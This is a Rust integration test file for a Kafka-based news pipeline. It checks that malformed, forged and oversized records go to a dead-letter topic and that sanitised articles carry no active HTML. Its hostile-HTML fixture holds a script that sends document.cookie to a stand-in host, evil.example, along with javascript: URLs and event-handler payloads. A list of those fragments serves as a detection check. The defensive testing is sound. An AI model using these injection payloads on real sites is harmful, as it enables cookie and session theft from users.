//! Hostile input through the three services on the real broker: every bad record lands in the
//! dead-letter topic with the right `error_kind` and stage, none stalls its partition (good
//! records after it come out), none reaches a downstream topic; active HTML content never
//! reaches an output field; an impossible date becomes null; a dead letter over the size limit
//! keeps a prefix with the whole record's size and SHA-256. (`newsflow run` with the same
//! input: tests/run.rs.)

#![allow(clippy::unwrap_used)] // a test that cannot unwrap should fail loudly

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::time::{Duration, Instant};

use common::pipeline::{Pipeline, STAGES, Stage, read_to_end};
use common::*;
use rdkafka::ClientConfig;
use rdkafka::message::{Header, Message as _, OwnedHeaders, OwnedMessage};
use rdkafka::producer::{BaseProducer, BaseRecord, Producer as _};
use sha2::Digest as _;

/// Hostile HTML: every kind of active content, around a real story.
const ACTIVE_HTML: &str = r#"<html><head><title>Harbour reopens</title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)"></head>
<body onload="alert('onload')"><article><h1 onclick="alert('h1')">Harbour reopens after repairs</h1>
<p>The harbour reopened on Monday after repairs to the main quay, the port authority said.
<a href="javascript:alert('link')">Read more</a> <img src="x.png" onerror="alert('img')"></p>
<iframe src="https://evil.example/frame"></iframe>
<p>Fishing boats returned to their moorings by noon, and the ferry to the islands ran again
<span onmouseover="steal()">on its normal timetable</span>.</p>
<svg><script>alert('svg')</script></svg><style>body{background:url(javascript:alert(2))}</style>
</article></body></html>"#;

/// Fragments of the active content above that must not survive anywhere in an output.
const ACTIVE: [&str; 10] = [
    "<script",
    "document.cookie",
    "alert(",
    "javascript:",
    "onload",
    "onclick",
    "onerror",
    "onmouseover",
    "<iframe",
    "evil.example",
];

fn raw(id: &str, content_type: &str, content: &str) -> String {
    serde_json::json!({"id": id, "source": "hostile-wire", "content_type": content_type, "content": content})
        .to_string()
}

struct Record {
    key: &'static str,
    payload: Option<Vec<u8>>,
    ce_type: Option<&'static str>,
}

fn record(key: &'static str, payload: impl Into<Vec<u8>>) -> Record {
    Record {
        key,
        payload: Some(payload.into()),
        ce_type: None,
    }
}

fn send(topic: &str, records: &[Record]) {
    let producer: BaseProducer = ClientConfig::new()
        .set("bootstrap.servers", brokers())
        .set("message.max.bytes", "2000000")
        .create()
        .unwrap();
    for r in records {
        let mut record = BaseRecord::to(topic).key(r.key);
        if let Some(payload) = &r.payload {
            record = record.payload(payload);
        }
        if let Some(ce_type) = r.ce_type {
            record = record.headers(OwnedHeaders::new().insert(Header {
                key: "ce_type",
                value: Some(ce_type),
            }));
        }
        producer.send(record).map_err(|(e, _)| e).unwrap();
    }
    producer.flush(Duration::from_secs(20)).unwrap();
}

#[test]
fn hostile_records_go_to_the_dlq_and_good_ones_flow_on() {
    let pipeline = Pipeline::new("hostile", "exactly-once", 1);
    let services: Vec<_> = STAGES
        .iter()
        .map(|stage| match stage {
            Stage::Normalizer => pipeline.start_with(
                *stage,
                "a",
                &["--max-content-bytes", "100000", "--dlq-max-bytes", "60000"],
            ),
            _ => pipeline.start(*stage, "a"),
        })
        .collect();
    for service in &services {
        service.wait_ready(Duration::from_secs(60));
    }

    let corpus = newsflow_testkit::corpus_dir();
    let bbc = std::fs::read_to_string(corpus.join("bbc-2005/business/001.txt")).unwrap();
    let bbc2 = std::fs::read_to_string(corpus.join("bbc-2005/tech/001.txt")).unwrap();
    let dated = format!(
        "World\nFebruary 30, 2022 / 6:44 AM\nHarbour dredging plan approved\nBy Jane Doe\n\n\
         PORTSMOUTH, Feb. 30 (UPI) -- {}",
        bbc2.lines().skip(2).collect::<Vec<_>>().join("\n")
    );
    let deep = format!(
        r#"{{"id":"h-deep","source":"s","content_type":"text/plain","content":"x","nested":{}{}}}"#,
        "[".repeat(5000),
        "]".repeat(5000)
    );
    let oversized = raw(
        "h-oversized",
        "text/plain",
        &"All work and no play. ".repeat(9000),
    );
    let oversized_sha = hex::encode(sha2::Sha256::digest(oversized.as_bytes()));
    let mut forged = record("h-forged", raw("h-forged", "text/plain", &bbc));
    forged.ce_type = Some("com.example.evil.v1");

    // On one partition, bad records between good ones: the good ones after them must come out.
    send(
        &pipeline.topics.raw(),
        &[
            record("h-good-1", raw("h-good-1", "text/plain", &bbc)),
            record("h-malformed", "{\"id\": \"h-malformed\", nope"),
            record(
                "h-utf8",
                &b"{\"id\":\"h-utf8\",\"source\":\"s\",\"content_type\":\"text/plain\",\"content\":\"caf\xe9 \xff\"}"[..],
            ),
            record("h-empty", Vec::new()),
            Record {
                key: "h-tombstone",
                payload: None,
                ce_type: None,
            },
            record("h-deep", deep),
            record(
                "h-wrong-type",
                r#"{"id": 17, "source": ["s"], "content_type": "text/plain", "content": "x"}"#,
            ),
            record(
                "h-pdf",
                raw("h-pdf", "application/pdf", "%PDF-1.4 not a page"),
            ),
            forged,
            record("h-oversized", oversized.clone()),
            record("h-html", raw("h-html", "text/html", ACTIVE_HTML)),
            record("h-dated", raw("h-dated", "text/plain", &dated)),
            record("h-good-2", raw("h-good-2", "text/plain", &bbc2)),
        ],
    );
    // Later stages get garbage and forged records on their own inputs.
    let mut forged_normalized = record("d-forged", raw("d-forged", "text/plain", &bbc));
    forged_normalized.ce_type = Some("io.newsflow.article.raw.v1");
    send(
        &pipeline.topic("news.normalized.v1"),
        &[record("d-malformed", "not json at all"), forged_normalized],
    );
    let mut forged_deduplicated = record("t-forged", raw("t-forged", "text/plain", &bbc));
    forged_deduplicated.ce_type = Some("io.newsflow.article.enriched.v1");
    send(
        &pipeline.topic("news.deduplicated.v1"),
        &[record("t-malformed", "{\"id\":"), forged_deduplicated],
    );

    let expected: BTreeMap<&str, (&str, &str)> = BTreeMap::from([
        ("h-malformed", ("normalizer", "malformed_json")),
        ("h-utf8", ("normalizer", "invalid_utf8")),
        ("h-empty", ("normalizer", "empty_content")),
        ("h-tombstone", ("normalizer", "empty_content")),
        ("h-deep", ("normalizer", "too_deeply_nested")),
        ("h-wrong-type", ("normalizer", "invalid_field")),
        ("h-pdf", ("normalizer", "unknown_content_type")),
        ("h-forged", ("normalizer", "unexpected_event_type")),
        ("h-oversized", ("normalizer", "too_large")),
        ("d-malformed", ("deduplicator", "malformed_json")),
        ("d-forged", ("deduplicator", "unexpected_event_type")),
        ("t-malformed", ("tagger", "malformed_json")),
        ("t-forged", ("tagger", "unexpected_event_type")),
    ]);
    let good = ["h-good-1", "h-html", "h-dated", "h-good-2"];

    // Wait until every good article and every dead letter is out.
    let outputs = pipeline.final_topics();
    let deadline = Instant::now() + Duration::from_secs(90);
    let records: Vec<OwnedMessage> = loop {
        let records = read_to_end(&outputs, 1);
        let keys: BTreeSet<String> = records.iter().map(key).collect();
        let all = good
            .iter()
            .chain(expected.keys())
            .all(|k| keys.contains(*k));
        if all || Instant::now() >= deadline {
            break records;
        }
        std::thread::sleep(Duration::from_millis(500));
    };

    let dead: Vec<&OwnedMessage> = records.iter().filter(|m| m.topic() == outputs[2]).collect();
    let mut seen: BTreeMap<String, (String, String)> = BTreeMap::new();
    for letter in &dead {
        let h = headers(letter);
        let previous = seen.insert(
            key(letter),
            (
                h.get("x-newsflow-stage").cloned().unwrap_or_default(),
                h.get("x-newsflow-error-kind").cloned().unwrap_or_default(),
            ),
        );
        assert!(previous.is_none(), "{} dead-lettered twice", key(letter));
    }
    let seen: BTreeMap<&str, (&str, &str)> = seen
        .iter()
        .map(|(k, (s, e))| (k.as_str(), (s.as_str(), e.as_str())))
        .collect();
    assert_eq!(seen, expected, "dead letters (key → stage, error_kind)");

    // The oversized dead letter: a prefix within the limit, the whole one's size and digest.
    let big = dead.iter().find(|m| key(m) == "h-oversized").unwrap();
    let h = headers(big);
    assert_eq!(big.payload().unwrap().len(), 60_000);
    assert!(oversized.as_bytes().starts_with(big.payload().unwrap()));
    assert_eq!(
        h.get("x-newsflow-original-size").map(String::as_str),
        Some(oversized.len().to_string().as_str())
    );
    assert_eq!(
        h.get("x-newsflow-original-sha256").map(String::as_str),
        Some(oversized_sha.as_str())
    );

    // Downstream: exactly the good articles, schema-valid, with no active content anywhere.
    let mut out: Vec<String> = Vec::new();
    for message in records.iter().filter(|m| m.topic() != outputs[2]) {
        out.push(key(message));
        let article: serde_json::Value =
            serde_json::from_slice(message.payload().unwrap()).unwrap();
        let text = article.to_string().to_lowercase();
        for fragment in ACTIVE {
            assert!(
                !text.contains(fragment),
                "{fragment:?} reached an output field of {}: {text}",
                key(message)
            );
        }
        if message.topic() == outputs[0] {
            newsflow_testkit::assert_valid("enriched.v1.schema.json", &article);
        }
        if key(message) == "h-dated" {
            assert!(
                article["published_at"].is_null(),
                "February 30 is no date: {}",
                article["published_at"]
            );
            assert_eq!(article["title"], "Harbour dredging plan approved");
        }
        if key(message) == "h-html" {
            let body = article["body"].to_string();
            assert!(body.contains("The harbour reopened on Monday"), "{body}");
            assert!(body.contains("on its normal timetable"), "{body}");
        }
    }
    out.sort();
    let mut want: Vec<String> = good.iter().map(|s| (*s).to_owned()).collect();
    want.sort();
    assert_eq!(out, want, "downstream holds the good articles, once each");
    // (The test itself wrote the d- and t- records into these topics.)
    for (topic, upstream) in [
        ("news.normalized.v1", &["h-"][..]),
        ("news.deduplicated.v1", &["h-", "d-"][..]),
    ] {
        let hostile: Vec<String> = read_to_end(&[pipeline.topic(topic)], 1)
            .iter()
            .map(key)
            .filter(|k| {
                expected.contains_key(k.as_str()) && upstream.iter().any(|p| k.starts_with(p))
            })
            .collect();
        assert!(hostile.is_empty(), "{hostile:?} reached {topic}");
    }

    for service in services {
        assert!(
            service.counter("newsflow_dead_letters_total", "") >= 1.0,
            "{} counted its dead letters",
            service.admin
        );
        service.signal("TERM");
        assert_eq!(service.wait(Duration::from_secs(40)), Some(0));
    }
}

/// The same kinds of hostile input through `newsflow run` (one process, no Kafka): each line
/// in the dead-letter file with its reason, the good lines out in order, no active content.
#[test]
fn hostile_lines_through_newsflow_run() {
    let dir = tempfile::tempdir().unwrap();
    let corpus = newsflow_testkit::corpus_dir();
    let bbc = std::fs::read_to_string(corpus.join("bbc-2005/business/001.txt")).unwrap();
    let deep = format!(
        r#"{{"id":"deep","source":"s","content_type":"text/plain","content":"x","nested":{}{}}}"#,
        "[".repeat(2000),
        "]".repeat(2000)
    );
    let mut feed: Vec<u8> = Vec::new();
    for line in [
        raw("good-1", "text/plain", &bbc),
        "{\"id\": \"malformed\", nope".to_owned(),
        deep,
        r#"{"id": 17, "source": "s", "content_type": "text/plain", "content": "x"}"#.to_owned(),
        raw("pdf", "application/pdf", "%PDF-1.4"),
        raw(
            "oversized",
            "text/plain",
            &"All work and no play. ".repeat(9000),
        ),
        raw("html", "text/html", ACTIVE_HTML),
    ] {
        feed.extend_from_slice(line.as_bytes());
        feed.push(b'\n');
    }
    feed.extend_from_slice(b"{\"id\":\"utf8\",\"source\":\"s\",\"content_type\":\"text/plain\",\"content\":\"caf\xe9\"}\n");
    let input = dir.path().join("hostile.jsonl");
    std::fs::write(&input, feed).unwrap();
    let (out, dlq) = (dir.path().join("out.jsonl"), dir.path().join("dlq.jsonl"));
    let status = newsflow()
        .args([
            "run",
            input.to_str().unwrap(),
            "--max-content-bytes",
            "100000",
        ])
        .args([
            "--output",
            out.to_str().unwrap(),
            "--dlq",
            dlq.to_str().unwrap(),
        ])
        .status()
        .unwrap();
    assert!(status.success());

    let read = |path: &std::path::Path| -> Vec<serde_json::Value> {
        std::fs::read_to_string(path)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let dead: BTreeMap<u64, String> = read(&dlq)
        .iter()
        .map(|d| {
            newsflow_testkit::assert_valid("dead-letter-line.v1.schema.json", d);
            (
                d["input"]["line"].as_u64().unwrap(),
                d["error_kind"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    let want: BTreeMap<u64, String> = [
        (2, "malformed_json"),
        (3, "too_deeply_nested"),
        (4, "invalid_field"),
        (5, "unknown_content_type"),
        (6, "too_large"),
        (8, "invalid_utf8"),
    ]
    .into_iter()
    .map(|(line, kind)| (line, kind.to_owned()))
    .collect();
    assert_eq!(dead, want, "dead letters by line");

    let outputs = read(&out);
    let ids: Vec<&str> = outputs.iter().map(|o| o["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["good-1", "html"]);
    for output in &outputs {
        newsflow_testkit::assert_valid("enriched.v1.schema.json", output);
        let text = output.to_string().to_lowercase();
        for fragment in ACTIVE {
            assert!(!text.contains(fragment), "{fragment:?} in {text}");
        }
    }
}
